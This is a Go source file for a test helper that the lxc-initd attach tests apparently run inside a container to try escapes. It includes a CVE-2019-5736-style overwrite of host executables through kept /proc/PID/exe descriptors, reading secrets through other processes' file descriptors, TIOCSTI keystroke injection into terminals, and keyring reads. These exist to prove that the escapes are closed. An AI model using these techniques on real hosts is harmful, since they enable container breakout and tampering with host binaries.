// Command attacker is what the attach tests run inside a container (and,
// for the keyring, on the host in front of lxc-initd) to try the escapes
// that `lxc-initd attach` must close. It is built static (CGO_ENABLED=0)
// by the tests and copied into the container's root file system.
//
//	attacker watch DIR SECRET   watch /proc for processes that appear: keep
//	                            an O_PATH descriptor on each one's executable
//	                            (unless it is busybox or this program), try
//	                            DESC/SECRET through each of its descriptors;
//	                            once DIR/stop exists, try to append to every
//	                            executable kept, then write DIR/report.
//	attacker tiocsti TEXT       push TEXT into the input of every terminal
//	                            reachable (fds 0-2, /dev/tty) with TIOCSTI.
//	attacker keyring-exec PROG ARGS...   (host) put a key in a new session
//	                            keyring and exec PROG with KEYID in ARGS
//	                            replaced by the key's serial number.
//	attacker key-read ID        print the key's payload, or the error.
//
// Everything it finds goes to DIR/report (watch) or stdout, one finding a
// line, for the tests to read.
package main

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// Marker is what the watch appends to an executable it could open for
// writing.
const Marker = "TK-PWNED-BY-CONTAINER"

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: attacker watch|tiocsti|keyring-exec|key-read ...")
		os.Exit(2)
	}
	var err error
	switch os.Args[1] {
	case "watch":
		err = watch(os.Args[2], os.Args[3])
	case "tiocsti":
		tiocsti(os.Args[2])
	case "keyring-exec":
		err = keyringExec(os.Args[2:])
	case "key-read":
		err = keyRead(os.Args[2])
	case "syscalls":
		syscallProbe()
	default:
		err = fmt.Errorf("unknown mode %q", os.Args[1])
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "attacker:", err)
		os.Exit(1)
	}
}

type fileID struct{ dev, ino uint64 }

func idOf(path string) (fileID, bool) {
	var st unix.Stat_t
	if unix.Stat(path, &st) != nil {
		return fileID{}, false
	}
	return fileID{st.Dev, st.Ino}, true
}

type grabbed struct {
	fd   int
	link string
}

func watch(dir, secret string) error {
	report, err := os.Create(filepath.Join(dir, "report.tmp"))
	if err != nil {
		return err
	}
	say := func(format string, a ...any) {
		fmt.Fprintf(report, format+"\n", a...)
		_ = report.Sync()
	}
	ignore := map[fileID]bool{}
	for _, p := range []string{"/proc/self/exe", "/bin/busybox"} {
		if id, ok := idOf(p); ok {
			ignore[id] = true
		}
	}
	seen := map[string]bool{strconv.Itoa(os.Getpid()): true}
	var exes []grabbed
	// Ready: the test starts its victims once this file exists.
	if err := os.WriteFile(filepath.Join(dir, "ready"), nil, 0o644); err != nil {
		return err
	}
	for {
		if _, err := os.Stat(filepath.Join(dir, "stop")); err == nil {
			break
		}
		ents, err := os.ReadDir("/proc")
		if err != nil {
			return err
		}
		for _, e := range ents {
			pid := e.Name()
			if pid[0] < '0' || pid[0] > '9' || seen[pid] {
				continue
			}
			if g, ok := grabExe(pid, ignore); ok {
				seen[pid] = true
				exes = append(exes, g)
				say("exe pid %s %s", pid, g.link)
				probeFds(pid, secret, say)
			}
		}
	}
	// Once the victims are gone their binary is no longer busy (ETXTBSY):
	// reopen what was kept for writing, as CVE-2019-5736 does.
	for _, g := range exes {
		say("write %s: %s", g.link, appendTo(g.fd))
	}
	report.Close()
	return os.Rename(filepath.Join(dir, "report.tmp"), filepath.Join(dir, "report"))
}

// grabExe keeps an O_PATH descriptor on pid's executable unless it is one
// of ignore (the container's own programs).
func grabExe(pid string, ignore map[fileID]bool) (grabbed, bool) {
	p := "/proc/" + pid + "/exe"
	fd, err := unix.Open(p, unix.O_PATH|unix.O_CLOEXEC, 0)
	if err != nil {
		return grabbed{}, false
	}
	var st unix.Stat_t
	if unix.Fstat(fd, &st) != nil || ignore[fileID{st.Dev, st.Ino}] {
		unix.Close(fd)
		return grabbed{}, false
	}
	link, _ := os.Readlink(p)
	return grabbed{fd: fd, link: link}, true
}

// probeFds lists pid's descriptors and tries secret under each one that
// is a directory (a caller's `exec 40</etc`), and under its cwd and root.
func probeFds(pid, secret string, say func(string, ...any)) {
	dir := "/proc/" + pid + "/fd"
	ents, err := os.ReadDir(dir)
	if err != nil {
		say("fds pid %s: %v", pid, err)
		return
	}
	var links []string
	for _, e := range ents {
		l, _ := os.Readlink(filepath.Join(dir, e.Name()))
		links = append(links, e.Name()+"="+l)
		if b, err := os.ReadFile(filepath.Join(dir, e.Name(), secret)); err == nil {
			say("secret pid %s fd %s: %s", pid, e.Name(), strings.TrimSpace(string(b)))
		}
	}
	for _, l := range []string{"cwd", "root"} {
		if b, err := os.ReadFile(filepath.Join("/proc", pid, l, secret)); err == nil {
			say("secret pid %s %s: %s", pid, l, strings.TrimSpace(string(b)))
		}
	}
	say("fds pid %s: %s", pid, strings.Join(links, " "))
}

func appendTo(fd int) string {
	p := "/proc/self/fd/" + strconv.Itoa(fd)
	deadline := time.Now().Add(10 * time.Second)
	for {
		w, err := os.OpenFile(p, os.O_WRONLY|os.O_APPEND, 0)
		if errors.Is(err, syscall.ETXTBSY) && time.Now().Before(deadline) {
			time.Sleep(20 * time.Millisecond)
			continue
		}
		if err != nil {
			return "open: " + err.Error()
		}
		_, err = w.Write([]byte(Marker))
		w.Close()
		if err != nil {
			return "write: " + err.Error()
		}
		return "APPENDED"
	}
}

func tiocsti(text string) {
	try := func(what string, fd int) {
		var failed error
		for i := 0; i < len(text) && failed == nil; i++ {
			b := text[i]
			_, _, e := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.TIOCSTI, uintptr(unsafe.Pointer(&b)))
			if e != 0 {
				failed = e
			}
		}
		if failed != nil {
			fmt.Printf("tiocsti %s: %v\n", what, failed)
		} else {
			fmt.Printf("tiocsti %s: INJECTED\n", what)
		}
	}
	for fd := 0; fd <= 2; fd++ {
		try("fd"+strconv.Itoa(fd), fd)
	}
	if fd, err := unix.Open("/dev/tty", unix.O_RDWR|unix.O_NOCTTY, 0); err != nil {
		fmt.Printf("tiocsti /dev/tty: open: %v\n", err)
	} else {
		try("/dev/tty", fd)
		unix.Close(fd)
	}
}

func keyringExec(args []string) error {
	if len(args) == 0 {
		return errors.New("keyring-exec: no program")
	}
	// Keyrings belong to a thread's credentials: the one that execs.
	runtime.LockOSThread()
	if _, err := unix.KeyctlJoinSessionKeyring("tk-caller"); err != nil {
		return fmt.Errorf("join a session keyring: %w", err)
	}
	id, err := unix.AddKey("user", "tk-key", []byte("tk-key-payload"), unix.KEY_SPEC_SESSION_KEYRING)
	if err != nil {
		return fmt.Errorf("add_key: %w", err)
	}
	argv := make([]string, len(args))
	for i, a := range args {
		argv[i] = strings.ReplaceAll(a, "KEYID", strconv.Itoa(id))
	}
	return unix.Exec(argv[0], argv, os.Environ())
}

func keyRead(s string) error {
	id, err := strconv.Atoi(s)
	if err != nil {
		return err
	}
	buf := make([]byte, 256)
	n, err := unix.KeyctlBuffer(unix.KEYCTL_READ, id, buf, 0)
	if err != nil {
		fmt.Printf("key %d: %v\n", id, err)
		return nil
	}
	fmt.Printf("key %d: payload %s\n", id, buf[:min(n, len(buf))])
	return nil
}

// syscallProbe makes the calls the seccomp tests check and prints one
// "NAME ERRNO" line each (0: the call went through to the kernel, or
// failed there with another reason than the filter's), then the Seccomp
// line of /proc/self/status. Every call is harmless whatever answers it.
func syscallProbe() {
	errno := func(_, _ uintptr, e syscall.Errno) int { return int(e) }
	bad := ^uintptr(0) // an fd or address that fails in the kernel
	fmt.Printf("init_module %d\n", errno(syscall.Syscall(syscall.SYS_INIT_MODULE, 0, 0, 0)))
	fmt.Printf("finit_module %d\n", errno(syscall.Syscall(unix.SYS_FINIT_MODULE, bad, 0, 0)))
	none, _ := syscall.BytePtrFromString("/tl-no-such-mount")
	fmt.Printf("umount2_force %d\n", errno(syscall.Syscall(syscall.SYS_UMOUNT2, uintptr(unsafe.Pointer(none)), unix.MNT_FORCE, 0)))
	fmt.Printf("umount2_detach %d\n", errno(syscall.Syscall(syscall.SYS_UMOUNT2, uintptr(unsafe.Pointer(none)), unix.MNT_DETACH, 0)))
	fmt.Printf("syncfs %d\n", errno(syscall.Syscall(unix.SYS_SYNCFS, bad, 0, 0)))
	fmt.Printf("getpgid_4242 %d\n", errno(syscall.Syscall(syscall.SYS_GETPGID, 4242, 0, 0)))
	fmt.Printf("getpgid_0 %d\n", errno(syscall.Syscall(syscall.SYS_GETPGID, 0, 0, 0)))
	b, _ := os.ReadFile("/proc/self/status")
	for _, l := range strings.Split(string(b), "\n") {
		if strings.HasPrefix(l, "Seccomp:") {
			fmt.Println(strings.Join(strings.Fields(l), " "))
		}
	}
}
